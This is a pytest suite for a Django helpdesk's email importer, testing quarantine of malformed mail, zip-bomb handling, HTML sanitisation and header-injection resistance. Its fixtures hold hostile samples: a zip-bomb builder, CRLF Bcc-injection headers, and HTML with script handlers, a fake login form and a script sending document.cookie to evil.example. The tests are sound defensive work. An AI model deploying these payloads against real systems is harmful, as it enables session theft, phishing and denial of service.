"""Bad input through the real import path: each message is quarantined or cleaned with a stated reason, its raw
bytes kept, nothing else touched, and a quarantined one is listed for admins and can be retried by them."""

import hashlib
import io
import random
import tracemalloc
import zipfile
import zlib
from email.message import EmailMessage

import pytest
from django.core import mail

from channels_app.adapters.base import PayloadError
from channels_app.models import Channel, InboundEvent
from channels_app.providers.email.parsing import message_provider_id, parse_email
from channels_app.services.mailbox_import import email_import
from customers.models import Customer
from tests.factories import AgentFactory, ChannelFactory
from tickets.models import Attachment, Message, Ticket
from tickets.services.replies import reply_create

pytestmark = pytest.mark.django_db

MB = 1024 * 1024


@pytest.fixture
def channel():
    return ChannelFactory(kind=Channel.Kind.EMAIL, address="support@desk.example", continue_open_ticket=False)


@pytest.fixture
def bystander(channel):
    """Another customer's ticket, which no bad message may touch."""
    outcome = email_import(channel=channel, raw=plain_email(message_id="<calm@mail.example>", sender="bob@example.com"))
    assert outcome.status == "ingested"
    return Ticket.objects.get(customer__identities__value="bob@example.com")


def snapshot() -> dict:
    return {
        "tickets": list(Ticket.objects.order_by("pk").values()),
        "messages": list(Message.objects.order_by("pk").values()),
        "customers": list(Customer.objects.order_by("pk").values()),
        "attachments": list(Attachment.objects.order_by("pk").values()),
    }


def plain_email(*, message_id: str, sender: str | None = "ann@example.com", body: str = "Hello") -> bytes:
    message = EmailMessage()
    if sender:
        message["From"] = sender
    message["To"] = "support@desk.example"
    message["Subject"] = "Question"
    message["Message-ID"] = message_id
    message.set_content(body)
    return message.as_bytes()


HEADERS = b"From: Ann <ann@example.com>\r\nTo: support@desk.example\r\nSubject: %s\r\nMessage-ID: <%s@mail.example>\r\n"


def nested_multiparts(levels: int) -> bytes:
    out = [HEADERS % (b"Deep", b"deep-%d" % levels), b"MIME-Version: 1.0\r\n"]
    for level in range(levels):
        out.append(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (level, level))
    out.append(b"Content-Type: text/plain\r\n\r\nbottom\r\n")
    out.extend(b"--b%d--\r\n" % level for level in reversed(range(levels)))
    return b"".join(out)


def many_parts(count: int) -> bytes:
    out = [HEADERS % (b"Many", b"many"), b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n']
    out.extend(b"--x\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % index for index in range(count))
    out.append(b"--x--\r\n")
    return b"".join(out)


def oversized(size: int) -> bytes:
    head = HEADERS % (b"Big", b"big") + (
        b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\n'
        b"Content-Type: text/plain\r\n\r\nSee attached.\r\n--x\r\n"
        b'Content-Type: application/octet-stream; name="big.bin"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    )
    line = b"QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB\r\n"
    return head + line * ((size - len(head)) // len(line) + 1) + b"--x--\r\n"


QUARANTINED = [
    ("garbage", lambda: random.Random(3).randbytes(4096), "not an email message"),
    ("nul-bytes", lambda: b"\x00\xff" * 2000, "not an email message"),
    ("no-from", lambda: plain_email(message_id="<nofrom@mail.example>", sender=None), "no sender address"),
    ("no-address", lambda: plain_email(message_id="<nob@mail.example>", sender="Nobody"), "no sender address"),
    ("nested-5000", lambda: nested_multiparts(5000), "MIME parts are nested too deeply to parse"),
    ("nested-60", lambda: nested_multiparts(60), "MIME parts are nested more than 50 levels deep"),
    ("parts-1500", lambda: many_parts(1500), "message has more than 1000 MIME parts"),
]  # fmt: skip


@pytest.mark.parametrize(("build", "reason"), [case[1:] for case in QUARANTINED], ids=[case[0] for case in QUARANTINED])
def test_bad_message_is_quarantined_with_its_reason_and_raw_kept(
    channel, bystander, admin_client, django_capture_on_commit_callbacks, build, reason
):
    raw = build()
    before = snapshot()

    outcome = email_import(channel=channel, raw=raw)

    event = InboundEvent.objects.get(pk=outcome.event_id)
    assert (outcome.status, outcome.reason) == ("quarantined", reason)
    assert (event.status, event.reason, event.attempts) == ("quarantined", reason, 1)
    assert bytes(event.raw) == raw
    assert snapshot() == before

    listed = admin_client.get("/api/v1/inbound-events?status=quarantined")
    assert [(item["id"], item["reason"]) for item in listed.json()["results"]] == [(str(event.public_id), reason)]

    # The admin's retry runs it again (eager Celery, after commit): the same bytes give the same verdict.
    with django_capture_on_commit_callbacks(execute=True):
        retried = admin_client.post(f"/api/v1/inbound-events/{event.public_id}/retry")
    assert retried.status_code == 202
    event.refresh_from_db()
    assert (event.status, event.reason, event.attempts) == ("quarantined", reason, 1)
    assert bytes(event.raw) == raw
    assert snapshot() == before


def test_fifty_megabyte_message_is_quarantined_by_size_with_sane_memory(channel, bystander):
    raw = oversized(50 * MB)
    before = snapshot()

    tracemalloc.start()
    try:
        outcome = email_import(channel=channel, raw=raw)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    event = InboundEvent.objects.get(pk=outcome.event_id)
    reason = f"message is {len(raw)} bytes; the limit is {40 * MB}"
    assert (outcome.status, event.status, event.reason) == ("quarantined", "quarantined", reason)
    assert hashlib.sha256(bytes(event.raw)).digest() == hashlib.sha256(raw).digest()
    # Storing costs what the database driver needs (about six copies for PostgreSQL's bytea escaping, one for
    # SQLite); nothing on our side may add a parse of the whole message on top.
    assert peak < 8 * len(raw), f"peak {peak / MB:.0f} MB for a {len(raw) / MB:.0f} MB message"
    assert snapshot() == before


def test_a_fifty_megabyte_message_is_refused_without_parsing_its_body():
    raw = oversized(50 * MB)

    tracemalloc.start()
    try:
        provider_id = message_provider_id(raw)
        with pytest.raises(PayloadError, match="the limit is"):
            parse_email(raw, channel=None)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert provider_id == "<big@mail.example>"
    # Splitting the body into lines for the parser would cost about eight times the message.
    assert peak < len(raw) // 4, f"peak {peak / MB:.0f} MB"


def zip_bomb(uncompressed: int) -> bytes:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros.bin", "w", force_zip64=True) as entry,
    ):
        chunk = bytes(MB)
        for _ in range(uncompressed // MB):
            entry.write(chunk)
    return buffer.getvalue()


def email_with_attachment(*, message_id: str, content: bytes, filename: str) -> bytes:
    message = EmailMessage()
    message["From"] = "Ann <ann@example.com>"
    message["To"] = "support@desk.example"
    message["Subject"] = "Logs"
    message["Message-ID"] = message_id
    message.set_content("The logs are attached.")
    message.add_attachment(content, maintype="application", subtype="zip", filename=filename)
    return message.as_bytes()


def forbid_decompression(monkeypatch) -> None:
    """From here on, anything that opens an archive or inflates data fails the test."""

    def tripwire(*args, **kwargs):
        raise AssertionError("an attachment was decompressed")

    for module, name in ((zipfile, "ZipFile"), (zlib, "decompress"), (zlib, "decompressobj")):
        monkeypatch.setattr(module, name, tripwire)


def test_zip_bomb_is_stored_as_an_opaque_file_never_unpacked(channel, bystander, monkeypatch):
    bomb = zip_bomb(256 * MB)
    assert len(bomb) < MB  # 256 MB of zeros in a few hundred kilobytes
    raw = email_with_attachment(message_id="<bomb@mail.example>", content=bomb, filename="logs.zip")
    before = snapshot()
    forbid_decompression(monkeypatch)

    tracemalloc.start()
    try:
        outcome = email_import(channel=channel, raw=raw)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert outcome.status == "ingested"
    attachment = Attachment.objects.get(message__provider_id="<bomb@mail.example>")
    assert (attachment.filename, attachment.content_type, attachment.size) == ("logs.zip", "application/zip", len(bomb))
    assert attachment.sha256 == hashlib.sha256(bomb).hexdigest()
    with attachment.file.open("rb") as stored:
        assert stored.read() == bomb
    assert peak < 32 * MB, "the archive was inflated in memory"
    assert snapshot()["tickets"][: len(before["tickets"])] == before["tickets"]


def test_zip_bomb_over_the_attachment_limit_is_skipped_with_a_reason(channel, settings, monkeypatch):
    bomb = zip_bomb(64 * MB)
    settings.HELPDESK = {**settings.HELPDESK, "MAX_ATTACHMENT_BYTES": len(bomb) - 1}
    raw = email_with_attachment(message_id="<bomb2@mail.example>", content=bomb, filename="logs.zip")
    forbid_decompression(monkeypatch)

    outcome = email_import(channel=channel, raw=raw)

    assert outcome.status == "ingested"
    message = Message.objects.get(provider_id="<bomb2@mail.example>")
    assert not message.attachments.exists()
    assert message.metadata["attachments_skipped"] == [
        {
            "filename": "logs.zip",
            "size": len(bomb),
            "reason": f"attachment is {len(bomb)} bytes; the limit is {len(bomb) - 1}",
        }
    ]
    assert bytes(InboundEvent.objects.get(pk=outcome.event_id).raw) == raw


HOSTILE_HTML = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>p { width: expression(alert(1)); background: url(https://t.example/bg.gif) }</style>
<script>alert('head')</script></head>
<body onload="steal()">
<p style="width: expression(alert(document.cookie))">Please <a href="javascript:alert(1)">check</a> my
<a href="https://shop.example/orders/1" onclick="steal()">order</a>.</p>
<img src="x" onerror="alert(2)"><img src="https://t.example/open.gif" width="1" height="1">
<iframe src="https://evil.example/frame">frame text</iframe>
<form action="https://evil.example/login"><input type="password" name="p">Sign in<button>Go</button></form>
<div style="background-image: url('https://t.example/pixel.gif')">Thanks</div>
<script>document.location = 'https://evil.example/?c=' + document.cookie</script>
</body></html>"""


def test_html_with_script_handlers_and_hostile_links_is_stored_sanitised(channel, bystander):
    message = EmailMessage()
    message["From"] = "Ann <ann@example.com>"
    message["To"] = "support@desk.example"
    message["Subject"] = "My order"
    message["Message-ID"] = "<hostile@mail.example>"
    message.set_content(HOSTILE_HTML, subtype="html")
    raw = message.as_bytes()
    before = snapshot()

    outcome = email_import(channel=channel, raw=raw)

    assert outcome.status == "ingested"
    stored = Message.objects.get(provider_id="<hostile@mail.example>")
    assert " ".join(stored.html.split()) == (
        '<p>Please <a target="_blank" rel="noopener noreferrer nofollow">check</a> my '
        '<a href="https://shop.example/orders/1" target="_blank" rel="noopener noreferrer nofollow">order</a>.</p> '
        '<img><img width="1" height="1" data-remote-src="https://t.example/open.gif"> Sign in <div>Thanks</div>'
    )
    for forbidden in (
        "script",
        "alert",
        "onerror",
        "onload",
        "onclick",
        "iframe",
        "form",
        "expression",
        "refresh",
        "style",
        " src=",
    ):
        assert forbidden not in stored.html.lower()
    assert "alert" not in stored.text and "document.cookie" not in stored.text
    assert "Please check my order." in stored.text
    assert bytes(InboundEvent.objects.get(pk=outcome.event_id).raw) == raw
    assert snapshot()["tickets"][: len(before["tickets"])] == before["tickets"]


def test_header_injection_in_the_subject_stays_one_header_inbound_and_out(
    channel, bystander, django_capture_on_commit_callbacks
):
    raw = (
        b"From: Mallory <mallory@example.com>\r\nTo: support@desk.example\r\n"
        b"Subject: =?utf-8?q?Refund=0D=0ABcc:_victim@example.com=0D=0A=0D=0Ainjected_body?=\r\n"
        b"Message-ID: <inject@mail.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nRefund please.\r\n"
    )

    outcome = email_import(channel=channel, raw=raw)

    assert outcome.status == "ingested"
    message = Message.objects.select_related("ticket").get(provider_id="<inject@mail.example>")
    assert message.ticket.subject == "Refund Bcc: victim@example.com injected body"
    assert (message.metadata["to"], message.metadata["cc"]) == (["support@desk.example"], [])
    assert bytes(InboundEvent.objects.get(pk=outcome.event_id).raw) == raw

    # The agent's answer carries that subject out again: still one Subject line, no Bcc, one recipient.
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        reply_create(ticket=message.ticket, author=AgentFactory(), text="On its way.")
    [sent] = mail.outbox
    assert sent.recipients() == ["mallory@example.com"]
    header_block = sent.message().as_bytes().replace(b"\r\n", b"\n").split(b"\n\n")[0]
    header_names = [line.split(b":")[0].lower() for line in header_block.split(b"\n") if line[:1] not in (b" ", b"\t")]
    assert b"bcc" not in header_names and header_names.count(b"subject") == 1
    assert b"injected" not in header_block.replace(b"\n ", b" ").split(b"Subject:")[0]


def test_a_line_break_hidden_in_the_senders_name_is_quarantined_with_the_reason(channel, bystander):
    raw = (
        b"From: =?utf-8?q?Mallory=0D=0ABcc:_victim@example.com?= <mallory@example.com>\r\n"
        b"To: support@desk.example\r\nSubject: Hi\r\nMessage-ID: <inject-name@mail.example>\r\n\r\nHello\r\n"
    )
    before = snapshot()

    outcome = email_import(channel=channel, raw=raw)

    event = InboundEvent.objects.get(pk=outcome.event_id)
    assert (outcome.status, event.status) == ("quarantined", "quarantined")
    # The parser refuses a name with CR/LF; the fallback's reading of the raw header is not a usable address.
    assert event.reason == "sender email is not usable: not a valid email address"
    assert bytes(event.raw) == raw
    assert snapshot() == before
